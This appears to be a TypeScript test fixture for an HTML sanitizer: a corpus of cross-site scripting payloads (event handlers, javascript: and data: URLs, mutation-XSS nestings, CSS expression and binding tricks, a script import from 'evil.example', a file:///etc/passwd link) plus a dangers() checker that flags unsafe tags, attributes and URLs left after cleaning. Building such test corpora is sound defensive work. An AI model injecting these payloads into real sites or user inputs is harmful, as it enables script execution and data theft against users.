import { dataAttribute, embedData } from 'shared-contracts/model';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';

const scripts = ['alert(1)', 'import("//evil.example/x.js")', 'eval(atob("YQ=="))'];
const tags = 'img a p body video audio details svg math input marquee object table iframe'.split(' ');
const events = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'ONERROR',
  'on\u0000error',
];
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '\u0001javascript:alert(1)',
  '//evil.example/x',
  'file:///etc/passwd',
  'blob:x',
  '\u00a0javascript:alert(1)',
  '\u200b\ufeffjavascript:alert(1)',
  '\tjava\nscript:alert(1)',
  '\u3000data:text/html,x',
];
const styles = [
  'position:fixed;top:0',
  'background:url(//evil.example/x)',
  'width:expression(alert(1))',
  'z-index:999999',
  'behavior:url(x.htc)',
  '-moz-binding:url(x)',
  'color:red;position:absolute',
  'background-color:url(x)',
  'font-family:"x";position:sticky',
  'line-height:9999',
  'text-indent:-9999px',
  'color:re\\64',
];
const embeds = (inside: string) => [
  `<section data-embed="raw">${inside}</section>`,
  `<p>前<section data-embed="raw">${inside}</section>后`,
];
const shapes = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<template><script>alert(1)</script></template>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p><a href="https://a.cn" onclick="alert(1)">x',
  '<img src="x" srcset="javascript:alert(1) 1x">',
  ...embeds('<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)></svg>'),
  ...embeds('</section><script>alert(1)</script>'),
  ...embeds('<section data-embed="raw"><img src=x onerror=alert(1)>'),
  ...styles.flatMap((style) => embeds(`<section style="${style}">文</section>`)),
  '<figure data-embed="video" onload="alert(1)"><video src="javascript:alert(1)" onerror="alert(1)"><source src="//evil.example/x" onerror="alert(1)"></video></figure>',
  '<video src="//evil.example/x.mp4" poster="javascript:alert(1)" autoplay></video>',
  '<figure data-embed="content" data-external-link-url="javascript:alert(1)" data-evil="1"><a href="javascript:alert(1)">x</a></figure>',
  '<figure data-embed="__proto__" data-id="1"><a href="data:text/html,x" download="x.html">x</a></figure>',
  '<figure data-embed="ad" data-external-link-url="javascript:alert(1)" data-outer-chain="1"><a href="https://a.cn" ping="//evil.example">x</a></figure>',
  '<video><script>alert(1)</script></video>',
  '<a href="https://x.cn" style="display:block;position:fixed;inset:0">x</a>',
  '<p class="ant-modal-mask ql-align-center evil">x</p>',
  '<p id="root">x</p>',
  '<a name="x" href=https://x.cn>x</a>',
  '<p dir=rtl>\u202etxt</p>',
];
/** Payloads that must not run, whatever the way into a text. */
export const corpus = [
  ...tags.flatMap((tag) =>
    events.flatMap((event) => scripts.slice(0, 2).map((script) => `<${tag} src=x ${event}='${script}'>文</${tag}>`)),
  ),
  ...urls.flatMap((url) => [
    `<a href="${url}">文</a>`,
    `<img src="${url}">`,
    `<svg><a xlink:href="${url}">x</a></svg>`,
  ]),
  ...styles.map((style) => `<p style="${style}">文</p>`),
  ...shapes,
];

const allowedTags = new Set(
  'p h1 h2 h3 strong em u s sup sub a ul ol li blockquote img br hr span table thead tbody tr td th figure figcaption video section div html head body'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'class style href title target rel src alt width height colspan rowspan scope data-list poster controls preload download data-embed'.split(
    ' ',
  ),
);
for (const names of Object.values(embedData)) for (const name of names) allowedAttributes.add(dataAttribute(name));

/** Everything in a browser's reading of cleaned HTML that could run, load from elsewhere or lie over the page. */
export function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if ('tagName' in node) {
      if (!allowedTags.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (!allowedAttributes.has(name)) found.push(`${node.tagName} ${name}`);
        if (name === 'href' && !/^(https?:|mailto:|tel:|\/(?!\/)|#|[\w.]+$)/i.test(value)) found.push(`href ${value}`);
        if (name === 'src' && !/^(https?:|\/(?!\/)|[\w.]+$)/i.test(value)) found.push(`src ${value}`);
        if (name === 'data-external-link-url' && /script:/i.test(value)) found.push(`link ${value}`);
        if (name === 'poster' && !/^(https?:|\/(?!\/))/i.test(value)) found.push(`poster ${value}`);
        if (name === 'style' && /(^|[;\s])position|url|expression|z-index|binding|behavior|\\/i.test(value))
          found.push(`style ${value}`);
        if (name === 'class' && !value.split(' ').every((word) => word.startsWith('ql-'))) found.push(`class ${value}`);
      }
      if (node.tagName === 'a' && !node.attrs.some(({ name, value }) => name === 'rel' && value.includes('noopener')))
        found.push('a without rel');
    }
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parse(html));
  return found;
}
